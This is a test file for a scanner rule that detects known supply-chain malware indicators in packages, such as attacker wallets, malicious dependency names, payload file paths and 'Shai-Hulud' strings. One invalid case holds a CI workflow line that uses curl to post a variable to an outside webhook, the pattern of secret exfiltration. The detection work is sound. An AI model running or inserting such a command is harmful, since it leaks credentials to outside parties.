import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { iocMatcher } from '../../ioc/index.js';
import { testRule, testSamples } from '../../test-support/rule-tester.js';
import { rule, SCRIPT_FILES } from './rule.js';

testRule(rule, {
  valid: [
    { name: 'ordinary code', code: "const cp = require('child_process'); module.exports = () => cp.execSync('git rev-parse HEAD');" },
    { name: 'a different ETH address', code: "const treasury = '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed';" },
    { name: 'the IOC host inside a longer name', code: "const url = 'https://sfrclak.com.example.test/x';" },
    { name: 'a common file name alone', files: { 'compile.bat': '@echo off', 'index.js': '' } },
    { name: 'an IOC string in a file type no layer reads', files: { 'notes.txt': 'shai-hulud-workflow.yml', 'index.js': '' } },
  ],
  invalid: [
    { name: 'an attacker wallet', code: "const to = '0xfc4a4858bafef54d1b1d7697bfb5c52f4c166976';", errors: [{ message: /^matches qix-chalk-debug-2025-09-08 indicator qix-1: .*; same payload as duckdb-proto-tinker-2025-09-09$/, line: 1 }] },
    { name: 'each signature once per file', code: "a('/tmp/processor.sh');\nb('/tmp/processor.sh');\nc('Shai-Hulud Migration');", errors: [{ message: /indicator sh1-2:/, line: 1 }, { message: /indicator sh1-7:/, line: 3 }] },
    { name: 'a secondary-source indicator says so', code: "repo.description = 'Sha1-Hulud: The Second Coming.';", errors: [{ message: /indicator sh2-7: .*\(secondary source\)$/ }] },
    { name: 'a dependency in package.json', code: '', manifest: { name: 'x', version: '1.0.0', dependencies: { 'plain-crypto-js': '^4.2.1' } }, errors: [{ message: /^matches axios-2026-03-31 indicator axios-4:/, line: 1 }] },
    { name: 'a file name with its company', files: { 'compile.js': '', 'compile.bat': '@echo off' }, errors: [{ message: /^matches rc-2021-11-04 indicator rc-2: .*: file compile\.bat \(with compile\.js\)$/ }] },
    { name: 'a shell script the JavaScript layer does not read', files: { 'index.js': '', 'scripts/run.sh': 'cp x /tmp/migrate-repos.sh\n' }, errors: [{ message: /indicator sh1-3:/, line: 1 }] },
    { name: 'a workflow file', files: { 'index.js': '', '.github/workflows/ci.yml': 'run: curl -d "$C" https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7\n' }, errors: [{ message: /indicator sh1-1:/ }] },
  ],
});

testSamples(rule, fileURLToPath(new URL('./samples/', import.meta.url)));

describe('ioc-signature meta', () => {
  it("needs the matcher's literals (a file with none of them is not even decoded) and never asks for a parse", () => {
    expect(rule.meta.needles).toEqual(iocMatcher().needles);
    expect(iocMatcher().needles.length).toBeGreaterThan(50);
    expect(Object.keys(rule.create!({} as never))).toEqual(['onText']);
  });

  it('reads script files the JavaScript layer skips, not JavaScript (no double reports)', () => {
    expect(['a.sh', 'b.BAT', 'c.ps1', '.github/workflows/x.yml', 'd.yaml', 'e.py', 'f.vbs', 'g.cmd'].every((p) => SCRIPT_FILES.test(p))).toBe(true);
    expect(['index.js', 'a.mjs', 'b.ts', 'c.json', 'readme.md'].some((p) => SCRIPT_FILES.test(p))).toBe(false);
  });
});
